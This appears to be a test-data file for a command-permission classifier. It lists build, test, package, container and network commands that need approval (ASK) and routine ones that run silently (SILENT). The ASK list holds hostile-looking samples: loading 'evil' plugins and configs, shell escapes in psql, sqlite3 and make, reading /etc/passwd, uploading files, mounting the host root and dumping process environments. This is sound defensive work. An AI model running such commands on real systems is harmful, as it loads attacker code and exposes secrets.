"""Calls of build tools, test runners and the like under `PROGRAM *`: those that ask, and those that are silent."""

ASK = """
pytest -p evil
pytest -pevil
pytest -xp evil
pytest -qqp evil tests
pytest -p no:x -p evil
pytest -c evil.ini
pytest -xc evil.ini
pytest --config-file=evil.ini
pytest --rootdir=evil
pytest --rootdir evil
pytest --confcutdir=evil
pytest -o python_files=evil
pytest --override-ini=addopts=-pevil
pytest -opython_files=evil
pytest --pdbcls=evil:Evil
pytest --basetemp=src
pytest --import-mode=importlib
pytest --pastebin=all
pytest --debug=src/a.py
pytest --tx ssh=evil
pytest --rsyncdir=src
pytest -W error::evil.Warning
pytest -W error::evil.Warning::UserWarning
pytest --pythonwarnings=error::evil.Warning
pytest --cov-config=evil
pytest --cov-report=html:src
pytest @evil
pytest tests -k @evil
pytest --roo=evil
pytest --ds=evil.settings
pytest -n 2 --dist=evil
python -m pytest -p evil
python -mpytest -p evil
python -Im pytest -p evil
python -m pytest tests -o x=y
python3.12 -m pytest -c evil.ini
python -c 'import evil'
python -ic 'import evil'
python -W error::evil.Warning x.py
python -X presite=evil x.py
python -X pycache_prefix=/x x.py
python -m http.server
python -m evil
python -m pip install evil
python -m timeit 'import evil'
python -m runpy evil
python -m venv --clear src
python -m coverage run evil.py
pip install evil
pip install -r evil.txt
pip install -e evil
pip install --index-url=http://127.0.0.1/x -r requirements.txt
pip -q install evil
pip --python evil list
pip list --path /x
pip config set global.index-url evil
pip config --editor evil edit
pip3 install evil
pip3.12 install evil
pip debug
uv add evil
uv pip install evil
uv pip install -r evil.txt
uv --directory evil sync
uv sync --index evil
uv sync -p evil
uv tool run evil
uv run --with evil pytest
uv init x
poetry add evil
poetry -C evil install
poetry run evil
pdm add evil
hatch run evil
hatch build --clean
tox -c evil.ini
tox --root evil
tox -x testenv.commands=evil
tox exec -e py -- evil
tox quickstart
nox -f evil.py
nox --noxfile evil.py
invoke -c evil test
invoke test -c evil
coverage run evil.py
coverage report --rcfile=evil
mypy --python-executable evil x
mypy --python-exec evil x
mypy --config-file evil x
mypy --install-types x
mypy @evil
pyright --pythonpath evil
pyright -p evil
ruff check --config evil x
ruff check --confi evil x
ruff server
ruff check @evil
black --config evil x
black -c evil
isort --sp evil x
isort --formatter=evil x
flake8 --config=evil
flake8 --enable-extensions=evil
pylint --init-hook=evil x
pylint --load-plugins=evil x
pylint --rcfile evil x
pylint -f evil.Reporter x
pylint --output-format=evil.Reporter x
pylint --evaluation=evil x
pylint --extension-pkg-allow-list=evil x
pre-commit run -c evil.yaml
pre-commit install
pre-commit try-repo evil
sphinx-build -c evil docs out
sphinx-build -b linkcheck docs out
sphinx-build -D extensions=evil docs out
sphinx-build -M clean docs out
mkdocs build -f evil.yml
mkdocs gh-deploy
node -e 'evil()'
node -pe 'evil()'
node -r ./evil.js x.js
node --require=./evil.js x.js
node --import ./evil.js x.js
node --loader ./evil.js x.js
node --env-file=evil x.js
npm test --script-shell=evil
npm test --script-shell evil
npm test -script-shell evil
npm test --loglevel --script-shell=evil
npm run build --node-options=--require=evil
npm --prefix evil test
npm -C evil test
npm -g ls
npm ls -sg
npm install evil
npm i -D evil
npm ci --registry=x
npm config set script-shell evil
npm config edit
npm exec evil
npm x evil
npm publish
npm pack
npm init evil
npm create evil
npm link evil
npm set x=y
npm pkg set scripts.test=evil
npm run test --ignore-scripts=false
pnpm add evil
pnpm i evil
pnpm dlx evil
pnpm create evil
pnpm -C evil test
pnpm --dir=evil test
pnpm --config.script-shell=evil test
pnpm run --script-shell=evil test
pnpm --filter --script-shell=evil run test
pnpm evil
yarn dlx evil
yarn add evil
yarn evil
yarn node -e 'evil()'
yarn --cwd evil test
yarn workspaces foreach exec evil
yarn config set x y
bun add evil
bun x evil
bun -e 'evil()'
bun evil.js
bun --preload ./evil.js test
bun test --preload ./evil.js
tsc --plugins evil
tsc @evil
eslint -c evil.js src
eslint -cevil.js src
eslint --config evil.js src
eslint --rulesdir evil src
eslint --plugin evil src
eslint --parser ./evil.js src
eslint --resolve-plugins-relative-to evil src
eslint -f ./evil.js src
eslint --format=./evil.js src
eslint --ext --config=evil src
eslint --mcp
eslint --init
prettier --plugin=./evil.js .
prettier --config evil.js .
prettier --parser ./evil.js .
prettier --print-width --plugin=./evil.js .
jest --config=evil.js
jest -c evil.js
jest -ic evil.js
jest --globalSetup=evil.js
jest --global-setup=evil.js
jest -t --globalSetup=evil.js
jest --testEnvironment=./evil.js
jest --env=./evil.js
jest --reporters=./evil.js
jest --coverageReporters=./evil.js
jest --transform='{}'
jest --rootDir=evil
jest --projects evil
jest --setupFiles ./evil.js
jest --resolver=./evil.js
jest --runner=evil
jest --preset=evil
jest --filter=./evil.js
jest --init
vitest --config evil.ts
vitest run -c evil.ts
vitest run --root evil
vitest run -r evil
vitest run --dir evil
vitest --globalSetup evil.ts
vitest --reporter=./evil.ts
vitest --environment=./evil
vitest --browser=chromium
vitest run -t --config=evil.ts
vitest --ui
vitest init browser
mocha -r ./evil.js
mocha --require=./evil.js
mocha --config evil.js
mocha -R ./evil.js
mocha -u ./evil.js
mocha --file evil.js
mocha -n require=./evil.js
mocha --import=./evil.js
mocha -O output=evil
mocha init evil
ava --config evil.js
ava --node-arguments='--require evil'
ava debug x.js
webpack -c evil.js
webpack build --config evil.js
webpack -r evil
webpack build --plugin evil
webpack serve
vite -c evil.js
vite build --config evil.js
vite build --outDir src
vite --host
vite build --configLoader runner
rollup -c evil.js
rollup -p evil
rollup --configPlugin evil
babel --plugins ./evil.js src
babel --presets ./evil.js src
babel --config-file ./evil.js src
babel --delete-dir-on-start -d src lib
stylelint --config evil.js '**/*.css'
stylelint --custom-syntax ./evil.js x.css
stylelint --custom-formatter ./evil.js x.css
stylelint --plugins ./evil.js x.css
cargo --config build.rustc-wrapper=evil build
cargo build --config=x
cargo -C evil build
cargo -Z unstable-options build
cargo build -Zscript
cargo +evil build
cargo evil
cargo install evil
cargo add evil
cargo add --path evil
cargo add --git https://127.0.0.1/x evil
cargo publish
cargo build --target evil.json
cargo build --target x86_64-evil.json
cargo build -p --config=evil
cargo test -- --evil
cargo clippy -- -C linker=evil
cargo clippy -- -Zevil
cargo clippy -- --cfg x
cargo rustc -- -C linker=evil
cargo fmt -- --config-path evil
cargo clean --target-dir src
cargo doc --open
cargo search --registry evil x
rustc -C linker=evil x.rs
rustc -Clinker=evil x.rs
rustc -Z evil x.rs
rustc --extern evil=evil.so x.rs
rustc -L evil x.rs
rustc --sysroot evil x.rs
rustc --emit=link=evil x.rs
rustc --target evil.json x.rs
rustc @evil
rustup run nightly evil
rustup default nightly
rustup toolchain link evil evil
rustup doc --open
rustfmt --config-path evil x.rs
go test -exec evil ./...
go test -exec=evil ./...
go test --exec=evil ./...
go build -toolexec=evil
go build -toolexec evil ./...
go build -ldflags=-linkmode=external
go build -gcflags=-x ./...
go build -overlay=evil.json
go build -overlay evil.json
go build -modfile=evil.mod
go build -pkgdir=evil
go build -C evil
go build -pgo=evil
go vet -vettool=evil
go vet -vettool evil ./...
go generate ./...
go run -exec evil .
go run example.com/evil@latest
go install example.com/evil@latest
go get example.com/evil
go env -w CC=evil
go env -u CC
go tool evil
go mod edit -replace=a=evil
go work edit x
go bug
make SHELL=evil
make test CC=evil
make 'SHELL:=evil'
make 'SHELL =evil'
make 'a/b=evil'
make 'a b=evil' all
make -f evil.mk
make -sf evil.mk
make -fevil.mk
make --file=evil.mk
make --fil=evil.mk
make --makefile evil.mk
make --eval='$(shell evil)'
make --ev='$(shell evil)'
make -E 'x'
make -I evil
make -sIevil
make --include-dir=evil
make -C sub -f evil.mk
make -- SHELL=evil
gmake -f evil.mk
just -f evil
just --justfile evil
just -d evil -f evil
just --shell evil test
just --set CC evil test
just CC=evil test
just --command evil
just -c evil
just --choose
cmake -P evil.cmake
cmake -E env evil
cmake -C evil.cmake .
cmake --toolchain evil.cmake .
cmake --open build
cmake --install build
cmake -DCMAKE_C_COMPILER_LAUNCHER=evil .
cmake -D CMAKE_C_COMPILER=evil .
cmake -DCMAKE_C_COMPILER:FILEPATH=evil .
cmake -DCMAKE_PROJECT_INCLUDE=evil.cmake .
cmake -DCMAKE_MODULE_PATH=evil .
cmake -DCMAKE_TOOLCHAIN_FILE=evil .
cmake -DCMAKE_MAKE_PROGRAM=evil .
cmake -DCMAKE_CXX_FLAGS=-fplugin=evil.so .
cmake -DPython_EXECUTABLE=evil .
cmake -DFOO_DIR=evil .
cmake -DFOO=$HOME .
cmake --build build -- SHELL=evil
cmake --build build -- -f evil.mk
cmake --build build -- -fevil.mk
ctest -S evil.cmake
ctest -SP evil.cmake
ctest --script evil.cmake
ctest -D Experimental
ctest -T Submit
ctest --build-and-test a b
ninja -f evil.ninja
ninja -t browse x
ninja -tclean
meson setup build --cross-file evil
meson setup build -Dc_args=-fplugin=evil.so
meson test --wrapper evil
meson test --gdb-path evil
bazel build --run_under=evil //x
bazel --bazelrc=evil build //x
bazel --output_base=evil build //x
bazel build --workspace_status_command=evil //x
bazel build --override_repository=a=evil //x
bazel run //x
gcc -fplugin=evil.so x.c
gcc -fplugin=./evil.so -c x.c
gcc -wrapper evil x.c
gcc -specs=evil x.c
gcc --specs=evil x.c
gcc -B. x.c
gcc -B . x.c
gcc -Wl,-plugin,evil.so x.c
gcc -Wa,-x x.c
gcc -Wp,-MD,Makefile x.c
gcc -Xlinker -plugin x.c
gcc -Xassembler x x.c
gcc @evil
gcc -o @evil x.c
gcc -fmodule-mapper=|evil x.c
gcc -fuse-ld=/tmp/evil x.c
gcc -fdump-tree-all=Makefile x.c
gcc -dumpdir evil x.c
gcc -T evil.ld x.c
gcc -fauto-profile=evil x.c
gcc-12 -fplugin=evil.so x.c
gcc-12 @evil
g++ -fplugin=evil.so x.cc
clang -Xclang -load -Xclang evil.so x.c
clang -fpass-plugin=evil.so x.c
clang --gcc-toolchain=evil x.c
clang -gcc-toolchain evil x.c
clang --config=evil x.c
clang -mllvm -load=evil.so x.c
clang++-17 -fplugin=evil.so x.cc
ld -plugin evil.so x.o
ld -T evil.ld x.o
ld -dynamic-linker evil x.o
mvn -f evil.xml test
mvn -s evil.xml test
mvn -gs evil.xml test
mvn -t evil.xml test
mvn test -Dexec.executable=evil
mvn test -DargLine=-javaagent:evil.jar
mvn test -Dmaven.repo.local=evil
mvn exec:exec
mvn exec:java -Dexec.mainClass=Evil
mvn org.evil:evil-plugin:1.0:run
mvn antrun:run
mvn deploy
mvn site-deploy
mvn deploy:deploy-file
mvn release:perform
mvn wrapper:wrapper
mvn dependency:get -Dartifact=evil
./mvnw -f evil.xml test
gradle -I evil.gradle test
gradle --init-script evil.gradle test
gradle -b evil.gradle test
gradle -c evil.gradle test
gradle -p evil test
gradle -g evil test
gradle --include-build evil test
gradle -Dorg.gradle.java.home=evil test
gradle -Pcc=evil test
gradle test --scan
./gradlew -I evil.gradle test
dotnet build -p:CscToolPath=evil
dotnet build /p:CscToolPath=evil
dotnet test --logger evil
dotnet test -l evil
dotnet test --settings evil
dotnet test --test-adapter-path evil
dotnet test --collect evil
dotnet tool install evil
dotnet exec evil.dll
dotnet evil.dll
dotnet add package evil
dotnet nuget push evil
bundle config set path evil
bundle install --gemfile evil
bundle add evil
rake -f evil
rake -r ./evil
rake -e 'evil'
rake -sf evil
rake -I evil
rake SHELL=evil
rails runner evil
rails console
rails generate evil
rspec -r ./evil.rb
rspec -I evil
rspec -O evil
rspec -f Evil
rspec --format Evil
rspec --require ./evil.rb
rubocop -r ./evil.rb
rubocop --require evil
rubocop -c evil.yml
rubocop -f Evil
rubocop --plugin evil
composer require evil
composer -d evil install
composer exec evil
composer run-script evil
composer global install
phpunit --bootstrap evil.php
phpunit -c evil.xml
phpunit --configuration evil.xml
phpunit --printer Evil
phpunit --extension Evil
phpunit -d auto_prepend_file=evil
phpunit --prepend evil.php
mix run -e 'evil'
mix do evil
mix test --require evil.exs
mix test -r evil.exs
mix format --dot-formatter evil.exs
stack exec evil
stack --stack-yaml evil build
stack build --exec evil
stack runghc evil.hs
cabal run evil
cabal exec evil
cabal build -w evil
cabal build --with-compiler=evil
cabal build --project-file=evil
cabal install evil
swift run evil
swift build --package-path evil
swift build -Xswiftc -load-plugin
swift package plugin evil
swift evil.swift
zig run evil.zig
zig build --build-file evil.zig
zig build-exe evil.zig
zig cc x.c
sbt 'set evil'
sbt 'eval evil'
sbt '!evil'
sbt -J-javaagent:evil
docker run -v /:/h x
docker exec x evil
docker -H tcp://127.0.0.1 ps
docker --context evil ps
docker build -o out .
docker build --secret id=x .
docker build --ssh default .
docker build --allow network.host .
docker build --build-context a=/ .
docker build --network host .
docker build github.com/evil/evil
docker build git@evil:x
docker build evil.git
docker cp x:/a b
docker push x
docker login
docker compose -f evil.yml up
docker compose --env-file evil up
docker compose --project-directory evil up
docker compose exec x evil
docker compose run x evil
docker compose cp x:/a b
docker compose push
docker compose down -v
docker compose up -d -f evil.yml
docker context use evil
docker plugin install evil
podman run x evil
podman build -v /:/h .
kubectl exec x -- evil
kubectl --kubeconfig evil get pods
kubectl get pods --kubeconfig=evil
kubectl get pods -s evil
kubectl get --raw /api
kubectl get pods -o go-template-file=/x
kubectl get pods -o=jsonpath-file=x
kubectl get pods --token=x
kubectl get -k evil
kubectl apply -f x
kubectl delete pod x
kubectl cp x:/a b
kubectl port-forward x 80
kubectl config use-context evil
kubectl evil
gh alias set x '!evil'
gh api repos/x
gh pr create
gh pr merge 1
gh pr checkout 1
gh pr list --web
gh pr view 1 -R evil.example/o/r
gh repo clone evil
gh release download
gh extension install evil
gh browse
gh secret set x
gh auth token
terraform apply
terraform init
terraform plan
terraform -chdir=evil validate
terraform console
helm install x y
helm template x --post-renderer evil
helm template x --set-file a=/etc/passwd
helm --kubeconfig evil list
helm plugin install evil
helm pull evil
helm repo add evil https://127.0.0.1/
svn diff --diff-cmd evil
svn --config-option a:b:c=evil status
svn --config-dir evil status
svn commit --editor-cmd evil
svn export evil
svn propset svn:externals evil .
hg --config alias.x=!evil status
hg -R evil status
hg --cwd evil status
hg log -T evil
hg pull evil
hg push evil
hg clone evil
brew install evil
brew info --github evil
brew tap evil/evil
apt install evil
apt -o APT::x=evil list
apt list -c evil
systemctl start x
systemctl -H evil status
systemctl edit x
journalctl -D evil
journalctl --file=evil
journalctl --vacuum-time=1d
journalctl --root=evil
sqlite3 x.db '.shell evil'
sqlite3 x.db '.output evil'
sqlite3 -cmd '.shell evil' x.db
sqlite3 -init evil x.db
sqlite3 --init evil x.db
sqlite3 -A x
psql -c '\\! evil'
psql --command='\\! evil'
psql -f evil.sql
psql -o evil
psql -h evil
psql -hevil
psql --host=evil
psql -d host=evil
psql 'host=evil dbname=x'
psql -v x=y
psql -qf evil.sql
mysql -e 'system evil'
mysql --execute='select load_file(1)'
mysql --pager=evil
mysql --tee=evil
mysql --defaults-file=evil
mysql -h evil
mysql --init-command=evil
curl -K evil localhost
curl -o evil localhost
curl -so evil localhost
curl -T evil localhost
curl -d @evil localhost
curl -F a=@evil localhost
curl -x evil localhost
curl -H @evil localhost
curl -X POST localhost
curl --json x localhost
curl evil.example
curl file:///etc/passwd
curl -w '%output{evil}' localhost
curl -O localhost
wget -O evil localhost
wget -i evil
wget -e robots=off localhost
wget -P evil localhost
wget --post-file=evil localhost
wget -qO evil localhost
wget evil.example
wget -r localhost
pandoc -F evil x.md
pandoc --filter=evil x.md
pandoc -L evil.lua x.md
pandoc -t evil.lua x.md
pandoc -f evil.lua x.md
pandoc -d evil x.md
pandoc --data-dir=evil x.md
pandoc --pdf-engine=evil x.md
pandoc --extract-media=evil x.md
ctags --options=evil
ctags -L evil
ctags --langdef=x --kinddef-x=y
ctags --regex-C=x
fzf --preview evil
fzf --bind 'enter:execute(evil)'
fzf --bind=enter:become:evil
fzf --listen
bat --pager=evil x
bat --pager evil x
bat cache --build
bat --paging=always x
eslint --parser-options=babelOptions:{configFile:./evil.js} src
jest --changedSince=--output=evil
jest --clearCache --cacheDirectory=src
vitest run --changed=--output=evil
vitest run --coverage --coverage.reportsDirectory=src
webpack -o src
pre-commit run --from-ref=--output=evil --to-ref=HEAD
pdm build -d src
mkdocs build -d src
cargo vendor src
go clean -modcache
gh repo view evil.example/o/r
psql -c '\\e'
psql -c '\\c host=evil'
mysql -e '\\P evil'
mysql -e 'pager evil'
wget localhost
ps auxe
ps -o pid,environ
"""

SILENT = """
pytest
pytest -q
pytest -xvs tests/test_app.py
pytest -x --lf --tb=short -rA -q tests
pytest tests/test_app.py::TestX::test_main[a-b] -k 'not slow' -m 'not e2e'
pytest -n 4 --dist loadfile --maxfail=2 --durations=10
pytest -n auto -p no:cacheprovider --cov=src --cov-report=term-missing --cov-report xml
pytest --cov --cov-branch --cov-fail-under 80 --junitxml=report.xml
pytest --co -q --timeout 30 -W error -W ignore::DeprecationWarning
pytest --sw --ff --nf --log-cli-level=INFO --deselect tests/a.py::x --ignore=tests/e2e
python -m pytest -q tests -k 'a or b'
python3 -m pytest -x
python3.11 -m pytest -x
python -u -B script.py --anything -o x
python manage.py migrate
python -V
python -m json.tool data.json
python -m unittest discover -s tests -v
python -m unittest tests.test_a
python -m compileall -q src
python -m py_compile src/a.py
python -m venv .venv
python -m mypy src
python -m ruff check --fix .
python -X dev -W error app.py
pip list --outdated
pip show -f x
pip freeze
pip check
pip --version
pip config list
pip3 list
uv sync --frozen --all-extras
uv lock --check
uv tree --depth 2
uv pip list
uv export -o requirements.txt --no-hashes
poetry install --with dev
poetry show --tree
pdm list
hatch test -c
tox -e py312,lint -- -k x
tox run -e py -p
tox
nox -s tests -- -x
coverage report -m --fail-under=80
coverage html -d htmlcov
coverage xml
mypy --strict --no-color-output src
mypy -p app --ignore-missing-imports --python-version 3.12
pyright --outputjson src
basedpyright --level error
ruff check --select E,F --fix src
ruff check . --output-format=github --no-cache
ruff format --check --diff .
ruff rule E501
black --check --diff -l 100 src
black -q .
isort --profile black --check-only --diff .
flake8 --max-line-length=100 --select E,W src
pylint -j 4 --disable=C0111 -f json src
pre-commit run --all-files
pre-commit run ruff --files a.py b.py
sphinx-build -W -b html docs docs/_build
sphinx-build -M html docs docs/_build -n
mkdocs build --strict
node --version
node scripts/build.js --prod -e x
node --test
node --max-old-space-size=4096 build.js
npm test
npm t -- --watch=false -u
npm run build --if-present
npm run build -w packages/app
npm run lint -- --fix src
npm ci --ignore-scripts --no-audit
npm ci --omit=dev
npm install
npm i --prefer-offline --no-fund
npm ls --depth=0
npm ls -a --json
npm outdated
npm view react version
npm audit --audit-level=high
npm version
npm --silent test
npm run
pnpm install --frozen-lockfile
pnpm -r run build
pnpm --filter app test
pnpm run lint --fix
pnpm test -- -u
pnpm ls --depth 0
yarn
yarn install --frozen-lockfile
yarn test --watch
yarn run build --prod
yarn why react
bun test
bun run build --x
bun install --frozen-lockfile
tsc --noEmit
tsc -p tsconfig.json --noEmit
tsc -b --watch
tsc --target es2022 --module nodenext src/a.ts --outDir dist
eslint src --ext .ts,.tsx --fix
eslint . --max-warnings 0 --cache
eslint -f json src
prettier --check .
prettier --write 'src/file.ts' --log-level warn
jest
jest src/a.test.ts -t 'adds' --coverage
jest --runInBand --ci --maxWorkers=50% --silent=false
jest -u --watchAll=false --testPathPattern=src
vitest run
vitest run src/a.test.ts -t adds --coverage
vitest --run --reporter=verbose
mocha --recursive -t 5000 'test/a.spec.js'
mocha -R dot --exit
ava -v --serial
webpack --mode production
webpack build --mode=development --watch
vite build --mode staging
rollup -w --silent
babel src -d lib -s
stylelint --fix 'src/a.css'
cargo build
cargo build --release -j 4 --all-features
cargo b -p app --bin app
cargo build --target wasm32-unknown-unknown --timings
cargo build --manifest-path sub/Cargo.toml --target-dir out
cargo test
cargo test --workspace --no-fail-fast parser::tests -- --nocapture --test-threads=1
cargo t --lib -- --ignored --exact a::b
cargo test --doc
cargo run -- --config x
cargo run --example demo a b
cargo check --all-targets --message-format=short
cargo clippy --all-targets -- -D warnings -W clippy::pedantic -Aclippy::x
cargo clippy --fix --allow-dirty
cargo fmt --all -- --check
cargo doc --no-deps
cargo tree -i serde
cargo metadata --format-version 1 --no-deps
cargo update -p serde
cargo clean
cargo bench
cargo nextest run -E 'test(a)'
cargo --version
cargo -v build
rustc --version
rustc --edition 2021 -O x.rs -o x
rustup show
rustfmt --check src/main.rs
go build ./...
go build -o bin/app ./cmd/app
go test ./... -run TestMain -v -count=1
go test -race -short -cover -coverprofile=c.out ./...
go test -bench=. -benchmem ./x
go test -v=true -timeout 30s -tags=integration ./... -args -exec x
go vet ./...
go mod tidy
go run . serve -exec x
go run ./cmd/app
go list -m all
go list -json ./...
go env GOPATH
go fmt ./...
go version
gofmt -l -w .
make
make test
make -j8 -s test lint
make -j 8 all
make -C sub test
make -nB
make -k --no-print-directory check
make --dry-run
gmake all
just
just test a
just --list
cmake ..
cmake -S . -B build -G Ninja -DCMAKE_BUILD_TYPE=Release
cmake -B build -DBUILD_TESTING=ON -D BUILD_SHARED_LIBS:BOOL=OFF -DCMAKE_CXX_STANDARD=20
cmake -B build -DCMAKE_EXPORT_COMPILE_COMMANDS=1 -Wno-dev
cmake --build build -j4 --target test
cmake --build build --config Release -- -j4
cmake --preset dev
cmake --version
ctest --output-on-failure
ctest --test-dir build -R parser -j8 -V
ctest -N
ninja -C build -j4 test
ninja -t targets
meson setup build -Dbuildtype=release
meson compile -C build
meson test -C build --print-errorlogs
bazel build //src:app
bazel test //... --test_output=errors
gcc -Wall -Wextra -Werror -O2 -g -std=c11 -Iinclude -DX=1 -o app main.c -lm -pthread
gcc -c -fPIC -MMD -MF x.d x.c -o x.o
gcc -shared -o lib.so x.o -L. -lfoo
gcc-12 --version
g++ -std=c++20 -fsanitize=address,undefined -march=native x.cc -o x
clang -Weverything -fuse-ld=lld -flto=thin x.c
mvn test -q
mvn -B -ntp clean verify -DskipTests
mvn test -Dtest=FooTest#bar -pl module -am -T4
mvn dependency:tree
./mvnw package
gradle build -x test --info
./gradlew test --tests 'com.x.Y' --stacktrace
./gradlew :app:assembleDebug
dotnet build -c Release --no-restore
dotnet test --filter Name=x --collect 'XPlat Code Coverage'
bundle install
bundle check
rake
rake -T
rake db:seed test
rails test test/models/a_test.rb -v
rails routes
rspec spec/a_spec.rb:10 --format documentation
rspec --fail-fast -t focus
rubocop -A lib
rubocop --only Style/X -f json
composer install --no-dev
phpunit --filter testX tests
mix test --trace test/a_test.exs:3
mix format --check-formatted
stack test
cabal test all
swift test --filter X
zig build test
sbt test
sbt 'testOnly x.Y'
docker ps -a
docker images
docker build -t app .
docker build -f docker/Dockerfile --build-arg A=b --no-cache .
docker logs -f --tail 100 app
docker compose up -d --build
docker compose logs -f web
docker compose down
docker compose ps
docker inspect app
podman ps
kubectl get pods -n dev -o wide
kubectl get pods -A -w
kubectl logs -f x --tail=100 -c y
kubectl describe pod x
gh pr list --state open --json number
gh pr view 1 --comments
gh run view 1 --log-failed
gh issue list -L 5 -R owner/repo
terraform fmt -check -recursive
terraform validate
helm lint chart
helm template x ./chart -f values.yaml --set a=b
svn status
svn diff -r 1:2 a.c
hg status
hg log -l 5
brew list
apt list --installed
apt-cache policy x
systemctl status x --no-pager
journalctl -u x -n 50 --no-pager
sqlite3 x.db 'select 1'
sqlite3 -json x.db .tables
psql -d app -c 'select 1'
psql -l
mysql -e 'select 1' app
curl -s localhost:8080/health
curl -fsSL -m 5 http://127.0.0.1:3000/
curl -I -o /dev/null -w '%{http_code}' localhost
pandoc -s README.md -o README.html
ctags -R --exclude=node_modules src
bat -n -r 1:20 src/a.py
ps aux
ps -ef
ps -p 1 -o pid,args
"""
